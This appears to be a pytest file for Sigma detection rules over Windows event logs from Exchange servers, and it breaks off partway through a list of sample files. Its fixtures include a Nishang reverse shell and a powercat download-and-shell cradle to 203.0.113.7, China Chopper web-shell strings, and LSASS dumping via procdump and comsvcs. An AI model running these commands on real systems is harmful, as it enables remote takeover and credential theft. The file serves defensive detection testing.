"""The event-log (EVTX) Sigma rules: built records through the reader's flattening, and the real samples.

Records are built as the ``evtx`` package's JSON output (``{"Event": {"System": ..., "EventData": ...}}``)
and flattened by :func:`exhunt.readers.evtx._record`, the reader's own code, so field names, the
MSExchange Management ``Message`` rebuild, the 4688 aliases and the raw text that keywords search are
exactly what a scan sees. Each case names the rule it is about and the exact set of event-log rules
that must fire: a true positive lists the rule, a near miss does not (and lists what fires instead).
The second half scans the third-party samples in ``../shared/samples/evtx`` (skipped when absent).
"""

from __future__ import annotations

import json
from collections.abc import Mapping, Sequence
from pathlib import Path

import pytest

from exhunt.diagnostics import FileDiagnostics
from exhunt.engine.rules import shipped_rules
from exhunt.model import Level, Record, Stage
from exhunt.readers import FileFacts, evtx
from exhunt.scan import scan

SYSMON = "Microsoft-Windows-Sysmon/Operational"
POWERSHELL = "Microsoft-Windows-PowerShell/Operational"
DEFENDER = "Microsoft-Windows-Windows Defender/Operational"
MANAGEMENT = "MSExchange Management"
EXCHANGE = r"C:\Program Files\Microsoft\Exchange Server\V15"
W3WP = r"C:\Windows\System32\inetsrv\w3wp.exe"
W3WP_OWA = (r'c:\windows\system32\inetsrv\w3wp.exe -ap "MSExchangeOWAAppPool" -v "v4.0" -c '
            rf'"{EXCHANGE}\bin\GenericAppPoolConfigWithGCServerEnabledFalse.config"')
UMWORKER = rf"{EXCHANGE}\bin\UMWorkerProcess.exe"
CMD = r"C:\Windows\System32\cmd.exe"
POWERSHELL_EXE = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
RUNDLL32 = r"C:\Windows\System32\rundll32.exe"
LSASS = r"C:\Windows\system32\lsass.exe"
ASPNET_TEMP = r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\Temporary ASP.NET Files\owa\8e05b027\e164d61b"


# --- records built the way the EVTX reader builds them ------------------------------------------


def flatten(channel: str, event_id: object, provider: str, data: Mapping[str, object] | Sequence[str], *,
            level: int | str = 4, number: int = 1, computer: str = "EXCH01.contoso.local") -> Record:
    """A record from one event shaped like the ``evtx`` package's JSON (named or unnamed ``Data``)."""
    system: dict[str, object] = {
        "Provider": {"#attributes": {"Name": provider}},
        "EventID": event_id,
        "Level": level,
        "TimeCreated": {"#attributes": {"SystemTime": "2021-03-03T06:49:43.6990000Z"}},
        "EventRecordID": number,
        "Channel": channel,
        "Computer": computer,
        "Security": None,
    }
    event_data = {"Data": {"#text": list(data)}} if isinstance(data, (list, tuple)) else dict(data)
    item = {"event_record_id": number, "timestamp": "2021-03-03 06:49:43.699 UTC",
            "data": json.dumps({"Event": {"#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
                                          "System": system, "EventData": event_data}})}
    diags = FileDiagnostics("test.evtx")
    parsed = evtx._record(item, diags, None)
    assert parsed is not None and parsed[1] and diags.total == 0
    return parsed[0]


def sysmon(event_id: int, **data: str) -> Record:
    return flatten(SYSMON, event_id, "Microsoft-Windows-Sysmon", {"RuleName": "", **data})


def process(image: str, command_line: str, parent: str, parent_command_line: str = "") -> Record:
    """Sysmon 1."""
    return sysmon(1, Image=image, CommandLine=command_line, ParentImage=parent,
                  ParentCommandLine=parent_command_line or parent, User="NT AUTHORITY\\SYSTEM")


def process_4688(image: str, command_line: str, parent: str) -> Record:
    """Security 4688 (the reader adds Image/ParentImage/User)."""
    return flatten("Security", 4688, "Microsoft-Windows-Security-Auditing", {
        "SubjectUserSid": "S-1-5-18", "SubjectUserName": "EXCH01$", "SubjectDomainName": "CONTOSO",
        "NewProcessId": "0x998", "NewProcessName": image, "TokenElevationType": "%%1936",
        "ProcessId": "0x668", "CommandLine": command_line, "ParentProcessName": parent}, level=0)


def file_created(image: str, target: str) -> Record:
    """Sysmon 11."""
    return sysmon(11, Image=image, TargetFilename=target, ProcessId="4")


def process_access(source: str, target: str, access: str, call_trace: str) -> Record:
    """Sysmon 10."""
    return sysmon(10, SourceImage=source, TargetImage=target, GrantedAccess=access, CallTrace=call_trace)


def script_block(text: str) -> Record:
    """PowerShell 4104."""
    return flatten(POWERSHELL, 4104, "Microsoft-Windows-PowerShell", {
        "MessageNumber": 1, "MessageTotal": 1, "ScriptBlockText": text,
        "ScriptBlockId": "4aa5eae3-4f33-0001-3a2b-a64a334fd601", "Path": ""}, level=5)


def cmdlet(name: str, parameters: str, event_id: int = 1) -> Record:
    """MSExchange Management: only unnamed Data, as Exchange writes it (Data[0] cmdlet, Data[1] parameters)."""
    return flatten(MANAGEMENT, {"#attributes": {"Qualifiers": "16384"}, "#text": str(event_id)},
                   "MSExchange CmdletLogs", [
                       name, parameters, "contoso.local/Users/Administrator",
                       "S-1-5-21-1-2-3-500", "S-1-5-21-1-2-3-500", "Remote-PowerShell-Unknown",
                       "10544 w3wp#MSExchangePowerShellAppPool", "", "5", "00:00:01.0312500", "",
                   ], level="4" if event_id == 1 else "2")


def application(provider: str, level: int, texts: Sequence[str]) -> Record:
    return flatten("Application", {"#attributes": {"Qualifiers": "49152"}, "#text": "1000"},
                   provider, list(texts), level=level)


def security(event_id: int, **data: str) -> Record:
    return flatten("Security", event_id, "Microsoft-Windows-Security-Auditing", data, level=0)


def defender(event_id: int, threat: str, path: str) -> Record:
    return flatten(DEFENDER, event_id, "Microsoft-Windows-Windows Defender", {
        "Product Name": "Microsoft Defender Antivirus", "Threat Name": threat, "Severity Name": "Severe",
        "Category Name": "Backdoor", "Path": f"file:_{path}", "Detection User": "NT AUTHORITY\\SYSTEM",
        "Process Name": "Unknown", "Action Name": "Quarantine" if event_id == 1117 else "%%887"}, level=3)


def fired(record: Record) -> set[str]:
    """Every visible event-log rule that matches ``record``."""
    return {rule.info.id for rule in shipped_rules().for_kind("evtx") if not rule.hidden and rule.match(record)}


# --- true positives and near misses -------------------------------------------------------------

UM_CAST = ("System.InvalidCastException: Unable to cast object of type 'System.Windows.Data.ObjectDataProvider' "
           "to type 'Microsoft.Exchange.UM.UMCommon.UMMessageBody'.")
OTRF_OAB = ('-ExternalUrl "http://ffff/#<script language="JScript" runat="server"> function Page_Load()'
            '{/**/eval(Request["code"],"unsafe");}</script>" -Identity "OAB (Default Web Site)"')
HELSE_OAB = ('-Identity "EXCH01\\OAB (Default Web Site)" -ExternalUrl "http://f/<script language="JScript" '
             'runat="server">function Page_Load(){eval(Request["klk123456"],"unsafe");}</script>"')
RED_CANARY = ('"cmd" /c cd /d "C:\\\\inetpub\\\\wwwroot\\\\aspnet_client\\\\system_web"&net group '
              '"Exchange Organization administrators" administrator /del /domain&echo [S]&cd&echo [E]')
NISHANG = ("$client = New-Object System.Net.Sockets.TCPClient('203.0.113.7',443);$stream = $client.GetStream();"
           "[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;"
           "$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);"
           "$sendback = (iex $data 2>&1 | Out-String );$sendback2 = $sendback + 'PS ' + (pwd).Path + '> ';"
           "$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback2);$stream.Write($sendbyte,0,$sendbyte.Length);"
           "$stream.Flush()};$client.Close()")
EXCHANGE_SETUP = ('"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -NonInteractive '
                  '-WindowStyle Hidden '
                  '-command "Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn; '
                  '$exserver=Get-ExchangeServer ([Environment]::MachineName) -ErrorVariable exerr 2> $null; '
                  'if ($exserver) { Set-ExchangeServer $exserver }"')
ADMIN_EXPORT = "New-MailboxExportRequest -Mailbox alice -FilePath \\\\fileserver\\pst\\alice.pst"
BENIGN_LSASS_TRACE = ("C:\\Windows\\SYSTEM32\\ntdll.dll+a5874|C:\\Windows\\System32\\KERNELBASE.dll+61ff4|"
                      "c:\\windows\\system32\\lsm.dll+125dd|C:\\Windows\\System32\\RPCRT4.dll+788d3")
DUMP_TRACE = ("C:\\Windows\\SYSTEM32\\ntdll.dll+909ba|C:\\Windows\\system32\\KERNEL32.DLL+1c804|"
              "C:\\Windows\\SYSTEM32\\dbghelp.dll+1244d8|C:\\Windows\\System32\\comsvcs.dll+3d2c")


def case(rule: str, name: str, expected: set[str], record: Record) -> object:
    return pytest.param(rule, record, expected, id=f"{rule}:{name}")


UM = "MSExchange Unified Messaging"
MSIEXEC = r"C:\Windows\System32\msiexec.exe"
MAKECAB = r"C:\Windows\System32\makecab.exe"
REPLICATION = rf"{EXCHANGE}\Bin\MSExchangeMailboxReplication.exe"
OWA_AUTH = rf"{EXCHANGE}\FrontEnd\HttpProxy\owa\auth"
ASPNET_CLIENT = r"C:\inetpub\wwwroot\aspnet_client"
OAB_ID = '-Identity "OAB (Default Web Site)"'

CASES = [
    # CVE-2021-26857: UM deserialization
    case("PL-26857-1", "um-invalid-cast", {"PL-26857-1"}, application(UM, 2, ["a3f1", UM_CAST])),
    case("PL-26857-1", "other-um-error", set(), application(UM, 2, ["a3f1", "System.TimeoutException"])),
    case("PL-26857-1", "other-provider", set(), application("MSExchange Control Panel", 2, [UM_CAST])),
    case("PL-26857-1", "warning-level", set(), application(UM, 3, [UM_CAST])),
    case("PL-26857-2", "shell-under-um", {"PL-26857-2", "GEN-PROC-1"}, process(CMD, "cmd /c whoami", UMWORKER)),
    case("PL-26857-2", "4688-any-child", {"PL-26857-2"},
         process_4688(r"C:\ProgramData\dl.exe", r"C:\ProgramData\dl.exe", UMWORKER)),
    case("PL-26857-2", "werfault-crash", set(),
         process(r"C:\Windows\System32\WerFault.exe", "WerFault.exe -u -p 4242 -s 512", UMWORKER)),
    case("PL-26857-2", "wermgr", set(),
         process(r"C:\Windows\System32\wermgr.exe", "wermgr.exe -outproc 0 4242", UMWORKER)),
    # CVE-2021-26858 via UM
    case("PL-26858-2", "um-writes-aspx", {"PL-26858-2", "WEB-DROP-1"},
         file_created(UMWORKER, rf"{ASPNET_CLIENT}\system_web\help.aspx")),
    case("PL-26858-2", "cache-cleanup", set(),
         file_created(UMWORKER, rf"{EXCHANGE}\UnifiedMessaging\temp\CacheCleanup.bin")),
    case("PL-26858-2", "own-log", set(),
         file_created(UMWORKER, rf"{EXCHANGE}\Logging\UMWorkerProcess\UMWorker_20210303.LOG")),
    # CVE-2021-27065 in the MSExchange Management log
    case("PL-27065-5", "otrf-chopper", {"PL-27065-5"}, cmdlet("Set-OabVirtualDirectory", OTRF_OAB)),
    case("PL-27065-5", "helsecert-chopper", {"PL-27065-5"}, cmdlet("Set-OabVirtualDirectory", HELSE_OAB)),
    case("PL-27065-5", "admin-external-url", set(),
         cmdlet("Set-OabVirtualDirectory", f'-ExternalUrl "https://mail.contoso.com/OAB" {OAB_ID}')),
    case("PL-27065-5", "url-cleared", set(), cmdlet("Set-OabVirtualDirectory", f"-ExternalUrl $null {OAB_ID}")),
    # web-shell execution
    case("GEN-PROC-1", "otrf-whoami", {"GEN-PROC-1"}, process(CMD, "cmd /c whoami", W3WP, W3WP_OWA)),
    case("GEN-PROC-1", "4688-powershell", {"GEN-PROC-1"},
         process_4688(POWERSHELL_EXE, "powershell -ep bypass -e SQBFAFgA", W3WP)),
    case("GEN-PROC-1", "aspnet-compiler", set(),
         process(r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\cvtres.exe",
                 r'cvtres.exe /NOLOGO /READONLY /MACHINE:IX86 "/OUT:C:\Windows\TEMP\RES37C9.tmp"', W3WP)),
    case("GEN-PROC-1", "admin-shell", set(), process(CMD, "cmd /c whoami", r"C:\Windows\explorer.exe")),
    case("GEN-PROC-2", "red-canary-chopper", {"GEN-PROC-1", "GEN-PROC-2"}, process_4688(CMD, RED_CANARY, W3WP)),
    case("GEN-PROC-2", "no-marker", {"GEN-PROC-1"}, process(CMD, rf"cmd /c dir {ASPNET_CLIENT}", W3WP)),
    case("GEN-PROC-2", "not-under-iis", set(), process(CMD, RED_CANARY, r"C:\Windows\explorer.exe")),
    # files written by IIS, the Mailbox Replication service, or anyone into the drop folders
    case("PL-IIS-DROP", "aspnet-client-shell", {"PL-IIS-DROP", "PNS-FILE-1", "PNS-FILE-1-SUSP", "WEB-DROP-1"},
         file_created(W3WP, rf"{ASPNET_CLIENT}\shell.aspx")),
    case("PL-IIS-DROP", "owa-non-script", {"PL-IIS-DROP"},
         file_created(W3WP, rf"{OWA_AUTH}\Current\themes\x.png")),
    case("PL-IIS-DROP", "temporary-aspnet-compiled", set(),
         file_created(W3WP, rf"{ASPNET_TEMP}\ohyeah.aspx.f5dba9b9.compiled")),
    case("PL-IIS-DROP", "temporary-aspnet-dll", set(), file_created(W3WP, rf"{ASPNET_TEMP}\App_Web_llfrjg0v.dll")),
    case("PL-IIS-DROP", "log-file", set(), file_created(W3WP, rf"{ASPNET_CLIENT}\trace.log")),
    case("PL-IIS-DROP", "tmp-folder", set(), file_created(W3WP, r"C:\inetpub\wwwroot\tmp\upload.bin")),
    case("PNS-FILE-1", "ecp-auth-ashx", {"PNS-FILE-1", "PNS-FILE-1-SUSP", "WEB-DROP-1"},
         file_created(W3WP, rf"{EXCHANGE}\FrontEnd\HttpProxy\ecp\auth\pxh4HG1v.ashx")),
    case("PNS-FILE-1", "not-a-script", {"PL-IIS-DROP"}, file_created(W3WP, rf"{ASPNET_CLIENT}\notes.txt")),
    case("PNS-FILE-1-SUSP", "ps1-anywhere", {"PNS-FILE-1-SUSP"}, file_created(W3WP, r"C:\ProgramData\x.ps1")),
    case("PNS-FILE-1-SUSP", "compiler-temp", set(), file_created(W3WP, r"C:\Windows\Temp\RES37C8.tmp")),
    case("PS-FILE-1", "export-to-aspx", {"PS-FILE-1", "WEB-DROP-1"},
         file_created(REPLICATION, rf"{ASPNET_CLIENT}\luifdecggoqmansn.aspx")),
    case("PS-FILE-1", "export-to-pst", set(), file_created(REPLICATION, r"D:\Exports\alice.pst")),
    case("WEB-DROP-1", "otrf-system-writer", {"WEB-DROP-1"}, file_created("System", rf"{OWA_AUTH}\ohyeah.aspx")),
    case("WEB-DROP-1", "exchange-update", set(), file_created(MSIEXEC, rf"{OWA_AUTH}\logon.aspx")),
    case("WEB-DROP-1", "not-a-script-page", set(),
         file_created(r"C:\ProgramData\x.exe", rf"{OWA_AUTH}\Current\scripts\a.js")),
    # LSASS
    case("CRED-PROCDUMP", "procdump", {"CRED-PROCDUMP"},
         process(r"C:\Users\Public\procdump64.exe",
                 r"procdump64.exe -accepteula -ma lsass.exe C:\windows\temp\lsass.dmp", CMD)),
    case("CRED-PROCDUMP", "renamed-4688", {"CRED-PROCDUMP"},
         process_4688(r"C:\ProgramData\dump.exe", r"dump.exe -ma lsass.exe out.dmp", CMD)),
    case("CRED-PROCDUMP", "dump-of-iis", set(),
         process(r"C:\Tools\procdump64.exe", r"procdump64.exe -ma w3wp.exe C:\dumps\w3wp.dmp", CMD)),
    case("CRED-COMSVCS", "comsvcs-minidump", {"CRED-COMSVCS"},
         process(RUNDLL32, r"rundll32 C:\windows\system32\comsvcs.dll MiniDump 624 C:\inetpub\wwwroot\l.dmp full",
                 CMD)),
    case("CRED-COMSVCS", "ordinal-4688", {"CRED-COMSVCS"},
         process_4688(RUNDLL32, r"rundll32.exe C:\Windows\System32\comsvcs.dll, #24 624 C:\temp\x.dmp full",
                      POWERSHELL_EXE)),
    case("CRED-COMSVCS", "register-comsvcs", set(),
         process(r"C:\Windows\System32\regsvr32.exe", r"regsvr32 /s C:\Windows\System32\comsvcs.dll", CMD)),
    case("CRED-PS-MINIDUMP", "out-minidump", {"CRED-PS-MINIDUMP"},
         script_block("Out-Minidump -Process (Get-Process lsass) -DumpFilePath C:\\Windows\\Temp")),
    case("CRED-PS-MINIDUMP", "lsass-query", set(), script_block("Get-Process lsass | Select-Object Id, WorkingSet")),
    case("CRED-DUMPFILE", "lsass-dmp", {"CRED-DUMPFILE"},
         file_created(r"C:\Windows\system32\taskmgr.exe", r"C:\Users\x\AppData\Local\Temp\lsass (2).DMP")),
    case("CRED-DUMPFILE", "rundll32-dmp", {"CRED-DUMPFILE"}, file_created(RUNDLL32, r"C:\Windows\Temp\76nivOxA.dmp")),
    case("CRED-DUMPFILE", "crash-dump", set(),
         file_created(r"C:\Windows\System32\WerFault.exe", r"C:\ProgramData\WER\w3wp.exe.4242.dmp")),
    case("CRED-LSASS-ACCESS", "rundll32-dbghelp", {"CRED-LSASS-ACCESS"},
         process_access(RUNDLL32, LSASS, "0x1fffff", DUMP_TRACE)),
    case("CRED-LSASS-ACCESS", "benign-svchost", set(),
         process_access(r"C:\Windows\system32\svchost.exe", LSASS, "0x1000", BENIGN_LSASS_TRACE)),
    case("CRED-LSASS-ACCESS", "procmon", set(),
         process_access(r"C:\Users\tony\AppData\Local\Temp\Procmon64.exe", LSASS, "0x1fffff", DUMP_TRACE)),
    case("CRED-LSASS-ACCESS", "not-lsass", set(),
         process_access(RUNDLL32, r"C:\Windows\System32\notepad.exe", "0x1fffff", DUMP_TRACE)),
    # staging and tools
    case("STAGE-HAFNIUM", "7zip-pst", {"STAGE-HAFNIUM"},
         process(r"C:\ProgramData\7za.exe", r"7za.exe a -t7z -mx9 C:\ProgramData\it.zip C:\Programdata\pst", CMD)),
    case("STAGE-HAFNIUM", "makecab-dump", {"STAGE-HAFNIUM"},
         process(MAKECAB, rf"makecab {ASPNET_CLIENT}\l.dmp {ASPNET_CLIENT}\l.dmp.zip", CMD)),
    case("STAGE-HAFNIUM", "makecab-exchange-gif", {"STAGE-HAFNIUM"},
         process(MAKECAB, rf'makecab /D CompressionMemory=21 C:\root\l.dmp "{OWA_AUTH}\x.gif"', CMD)),
    case("STAGE-HAFNIUM", "makecab-exchange-log", set(),
         process(MAKECAB, rf'makecab "{EXCHANGE}\Logging\x.log" D:\x.cab', CMD)),
    case("STAGE-HAFNIUM", "admin-7zip", set(),
         process(r"C:\Program Files\7-Zip\7z.exe", rf'7z.exe a -t7z D:\backup\logs.7z "{EXCHANGE}\Logging"', CMD)),
    case("PS-SNAPIN", "hafnium-snapin", {"PS-SNAPIN"},
         process(POWERSHELL_EXE, 'powershell.exe -c "Add-PSSnapin Microsoft.Exchange.Powershell.Snapin; '
                                 'Get-Mailbox | Select Name"', CMD)),
    case("PS-SNAPIN", "exchange-setup", set(), process(POWERSHELL_EXE, EXCHANGE_SETUP, MSIEXEC)),
    case("PS-SNAPIN-SCRIPT", "snapin", {"PS-SNAPIN-SCRIPT"},
         script_block("Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn\r\n"
                      "Get-Mailbox -ResultSize Unlimited")),
    case("PS-SNAPIN-SCRIPT", "other-snapin", set(), script_block("Add-PSSnapin Microsoft.SharePoint.PowerShell")),
    case("REVSHELL-NISHANG", "nishang-under-iis", {"REVSHELL-NISHANG", "GEN-PROC-1"},
         process(POWERSHELL_EXE, f'powershell -nop -c "{NISHANG}"', W3WP)),
    case("REVSHELL-NISHANG", "port-test", set(),
         process(POWERSHELL_EXE, 'powershell -c "Test-NetConnection mail.contoso.com -Port 443"', CMD)),
    case("REVSHELL-NISHANG-SCRIPT", "nishang", {"REVSHELL-NISHANG-SCRIPT"}, script_block(NISHANG)),
    case("REVSHELL-NISHANG-SCRIPT", "port-test", set(),
         script_block("$t = New-Object System.Net.Sockets.TcpClient\r\n$t.Connect('mail.contoso.com', 25)\r\n"
                      "$t.Close()")),
    case("POWERCAT", "powercat", {"POWERCAT"},
         process(POWERSHELL_EXE, "powershell -c \"IEX (New-Object System.Net.Webclient).DownloadString("
                                 "'https://raw.githubusercontent.com/besimorhino/powercat/master/powercat.ps1');"
                                 "powercat -c 203.0.113.7 -p 443 -e cmd\"", CMD)),
    case("POWERCAT", "other-cradle", set(),
         process(POWERSHELL_EXE, "powershell -c \"IEX (New-Object Net.WebClient).DownloadString("
                                 "'http://203.0.113.7/p?e')\"", CMD)),
    case("ATTRIB-HIDE-ASPX", "hide-shell", {"ATTRIB-HIDE-ASPX", "GEN-PROC-1", "GEN-PROC-2"},
         process(CMD, rf"cmd.exe /c cd /d {ASPNET_CLIENT}&attrib +h +s +r shell.aspx&echo [S]&cd&echo [E]", W3WP)),
    case("ATTRIB-HIDE-ASPX", "hide-other-file", set(),
         process(r"C:\Windows\System32\attrib.exe", r"attrib +h +s +r C:\ProgramData\notes.txt ", CMD)),
    # accounts
    case("ACCT-USER-CREATED", "user-created", {"ACCT-USER-CREATED"},
         security(4720, SubjectUserName="Administrator", TargetUserName="backup$", TargetSid="S-1-5-21-1-2-3-1337")),
    case("ACCT-USER-CREATED", "user-enabled", set(),
         security(4722, SubjectUserName="Administrator", TargetUserName="alice")),
    case("ACCT-GROUP-ADD", "local-admins", {"ACCT-GROUP-ADD"},
         security(4732, SubjectUserName="Administrator", MemberSid="S-1-5-21-1-2-3-1337",
                  TargetUserName="Administrators")),
    case("ACCT-GROUP-ADD", "member-removed", set(),
         security(4733, SubjectUserName="Administrator", MemberSid="S-1-5-21-1-2-3-1337",
                  TargetUserName="Administrators")),
    # Defender
    case("DEFENDER-EXCHANGE", "chopper", {"DEFENDER-EXCHANGE"},
         defender(1116, "Backdoor:JS/Chopper.A!dha", rf"{OWA_AUTH}\errorEE.aspx")),
    case("DEFENDER-EXCHANGE", "exmann-action", {"DEFENDER-EXCHANGE"},
         defender(1117, "Exploit:Script/Exmann.A!dha", rf"{ASPNET_CLIENT}\a.aspx")),
    case("DEFENDER-EXCHANGE", "eicar", set(),
         defender(1116, "Virus:DOS/EICAR_Test_File", r"C:\Users\alice\Downloads\eicar.com")),
    # cmdlets (MSExchange Management)
    case("PS-CMD-1", "export-to-aspx", {"PS-CMD-1", "PS-CMD-4"},
         cmdlet("New-MailboxExportRequest",
                '-Mailbox "alice@contoso.com" -FilePath "\\\\localhost\\c$\\inetpub\\wwwroot\\aspnet_client\\'
                'p433zrwewrvmcv.aspx" -IncludeFolders ("#Drafts#") -ContentFilter "Subject -eq \'p433zrwewrvmcv\'"')),
    case("PS-CMD-1", "export-to-loopback-inetpub", {"PS-CMD-1", "PS-CMD-4"},
         cmdlet("New-MailboxExportRequest", '-Mailbox "alice" -FilePath "\\\\127.0.0.1\\c$\\inetpub\\x.pst"')),
    case("PS-CMD-1", "role-to-user", {"PS-CMD-1", "PS-CMD-4"},
         cmdlet("New-ManagementRoleAssignment", '-Role "Mailbox Import Export" -User "mallory@contoso.com"')),
    case("PS-CMD-1", "admin-export-to-share", {"PS-CMD-4"},
         cmdlet("New-MailboxExportRequest", '-Mailbox "alice" -FilePath "\\\\fileserver\\pst\\alice.pst"')),
    case("PS-CMD-1", "role-to-group", {"PS-CMD-4"},
         cmdlet("New-ManagementRoleAssignment", '-Role "Mailbox Import Export" -SecurityGroup "Discovery Team"')),
    case("PS-CMD-2", "silent-remove", {"PS-CMD-2"},
         cmdlet("Remove-MailboxExportRequest",
                '-Identity "contoso.local/Users/alice\\MailboxExport" -Confirm "False"')),
    case("PS-CMD-2", "interactive-remove", set(),
         cmdlet("Remove-MailboxExportRequest", '-Identity "contoso.local/Users/alice\\MailboxExport"')),
    case("PS-CMD-3", "request-to-aspx", {"PS-CMD-3"},
         cmdlet("New-ExchangeCertificate",
                f'-GenerateRequest "True" -RequestFile "{EXCHANGE}\\FrontEnd\\HttpProxy\\ecp\\auth\\blank.aspx" '
                '-SubjectName "System.Security.Cryptography.X509Certificates.X500DistinguishedName" '
                '-BinaryEncoded "True" -DomainName ("contoso.com")')),
    case("PS-CMD-3", "request-to-share", set(),
         cmdlet("New-ExchangeCertificate", '-GenerateRequest "True" -RequestFile "\\\\fileserver\\certs\\mail.req" '
                                           '-SubjectName "CN=mail.contoso.com" -BinaryEncoded "True"')),
    case("PS-CMD-4", "get-recipient", {"PS-CMD-4"}, cmdlet("Get-Recipient", '-ResultSize "Unlimited"')),
    case("PS-CMD-4", "failed", set(), cmdlet("Get-Recipient", '-ResultSize "Unlimited"', event_id=6)),
    case("PS-CMD-4", "other-cmdlet", set(), cmdlet("Get-Mailbox", '-ResultSize "Unlimited"')),
    case("PS-CMD-5", "admin-shape", {"PS-CMD-5"}, process(POWERSHELL_EXE, f"powershell.exe -c {ADMIN_EXPORT}", CMD)),
    case("PS-CMD-5", "import", set(),
         process(POWERSHELL_EXE, "powershell.exe -c New-MailboxImportRequest -Mailbox alice "
                                 "-FilePath \\\\fileserver\\pst\\alice.pst", CMD)),
    case("PS-CMD-5-SCRIPT", "admin-shape", {"PS-CMD-5-SCRIPT"}, script_block(ADMIN_EXPORT)),
    case("PS-CMD-5-SCRIPT", "list-exports", set(),
         script_block("Get-MailboxExportRequest -Status Completed | Remove-MailboxExportRequest")),
    case("MBX-FORWARD", "wec-sample-shape", {"MBX-FORWARD"},
         cmdlet("Set-Mailbox", '-Identity "Administrateur" -DeliverToMailboxAndForward "False" '
                               '-ForwardingSmtpAddress "smtp:test2@example.com"')),
    case("MBX-FORWARD", "inbox-rule", {"MBX-FORWARD"},
         cmdlet("New-InboxRule", '-Name "sync" -Mailbox "ceo" -ForwardTo "archive@example.net"')),
    case("MBX-FORWARD", "cleared-null", set(), cmdlet("Set-Mailbox", '-Identity "alice" -ForwardingSmtpAddress $null')),
    case("MBX-FORWARD", "cleared-empty", set(), cmdlet("Set-Mailbox", '-Identity "alice" -ForwardingAddress ""')),
    case("MBX-FORWARD", "other-setting", set(),
         cmdlet("Set-Mailbox", '-Identity "alice" -HiddenFromAddressListsEnabled "True"')),
    case("MBX-FORWARD", "move-rule", set(),
         cmdlet("New-InboxRule", '-Name "news" -Mailbox "alice" -MoveToFolder "alice:\\News"')),
    case("MBX-PERMISSION", "full-access", {"MBX-PERMISSION"},
         cmdlet("Add-MailboxPermission",
                '-Identity "ceo" -User "mallory" -AccessRights ("FullAccess") -InheritanceType "All"')),
    case("MBX-PERMISSION", "impersonation", {"MBX-PERMISSION", "PS-CMD-4"},
         cmdlet("New-ManagementRoleAssignment", '-Role "ApplicationImpersonation" -User "svc-sync"')),
    case("MBX-PERMISSION", "read-permission", set(),
         cmdlet("Add-MailboxPermission", '-Identity "ceo" -User "alice" -AccessRights ("ReadPermission")')),
]


@pytest.mark.parametrize(("rule", "record", "expected"), CASES)
def test_rule(rule: str, record: Record, expected: set[str]) -> None:
    assert fired(record) == expected


def test_every_event_log_rule_has_positive_and_near_miss_cases() -> None:
    rules = {rule.info.id for rule in shipped_rules().for_kind("evtx") if not rule.hidden}
    positives = {c.values[0] for c in CASES if c.values[0] in c.values[2]}
    near_misses = {c.values[0] for c in CASES if c.values[0] not in c.values[2]}
    assert rules == positives
    assert rules == near_misses


def test_the_flattening_is_the_readers() -> None:
    record = cmdlet("Set-Mailbox", '-Identity "alice" -ForwardingSmtpAddress "smtp:x@example.com"')
    assert record.fields["Message"] == ('Cmdlet suceeded. Cmdlet Set-Mailbox, parameters -Identity "alice" '
                                        '-ForwardingSmtpAddress "smtp:x@example.com"')
    assert record.raw.startswith("Cmdlet suceeded. Cmdlet Set-Mailbox")
    assert (record.fields["EventID"], record.fields["Channel"], record.fields["Data[6]"]) == (
        "1", MANAGEMENT, "10544 w3wp#MSExchangePowerShellAppPool")
    created = process_4688(CMD, "cmd /c whoami", W3WP).fields
    assert (created["Image"], created["ParentImage"], created["User"]) == (CMD, W3WP, "EXCH01$")


def test_shipped_rules_load_without_diagnostics() -> None:
    rules = shipped_rules()
    assert rules.diagnostics == ()
    evtx_rules = [rule for rule in rules.rules if rule.kind == "evtx"]
    assert {rule.info.id for rule in evtx_rules} == {c.values[0] for c in CASES}
    for rule in evtx_rules:
        info = rule.info
        assert info.references and info.description and info.uuid and rule.fields, info.id
        assert Path(info.path).name.startswith("win_"), info.path


# --- the real samples ----------------------------------------------------------------------------

MALICIOUS = [
    ("mdecrevoisier__ID1-LSASS_dump_with_LSASSY_SYSMON_comsvcs.evtx",
     {"CRED-COMSVCS", "CRED-LSASS-ACCESS", "CRED-DUMPFILE"},
     "Sysmon 1 powershell and rundll32 comsvcs MiniDump; Sysmon 10 rundll32 -> lsass via dbghelp/comsvcs; "
     "Sysmon 11 random-named .dmp written by rundll32"),
    ("mdecrevoisier__ID4688-4663-4656-LSASS_dump_with_LSASSY_process_comsvcs.evtx", {"CRED-COMSVCS"},
     "4688 command lines only; 4656/4663 on lsass and 5145 are not rules"),
    ("mdecrevoisier__ID6-Failed_to_install_an_Exchange_transport_agent.evtx", set(),
     "a failed (event 6) Install-/Enable-TransportAgent: transport-agent persistence is not among the ProxyLogon-era "
     "detections, the cmdlet failed, and administrators install agents too"),
    ("mdecrevoisier__ID11-Exchange_transport_config_modified.evtx", set(),
     "notepad++ writes TransportRoles\\Shared\\agents.config: not a web folder, not a script"),
    ("omerbenamram__MSExchange_Management_wec.evtx", {"MBX-FORWARD"},
     "Set-Mailbox -ForwardingSmtpAddress smtp:test2@example.com"),
    ("sbousseaden__LM_typical_IIS_webshell_sysmon_1_10_traces.evtx", {"GEN-PROC-1"},
     "w3wp -> cmd /c net user; net/net1 have cmd as parent; Sysmon 10 w3wp -> cmd is not an lsass access"),
    ("sbousseaden__Powershell_4104_MiniDumpWriteDump_Lsass.evtx", {"CRED-PS-MINIDUMP"},
     "4104 script block calling MiniDumpWriteDump on lsass"),
    ("sbousseaden__Runas_4624_4648_Webshell_CreateProcessAsUserA.evtx", set(),
     "1102/4648/4624 only: logon events are not rules (4648 by w3wp is a gap)"),
    ("sbousseaden__discovery_sysmon_1_iis_pwd_and_config_discovery_appcmd.evtx", {"GEN-PROC-1"},
     "w3wp -> powershell -enc; the appcmd children have powershell as parent"),
    ("sbousseaden__privesc_rotten_potato_from_webshell_metasploit_sysmon_1_8_3.evtx", set(),
     "w3wp -> notepad.exe (not a shell) and CreateRemoteThread: no rule covers Sysmon 8 or injected notepad"),
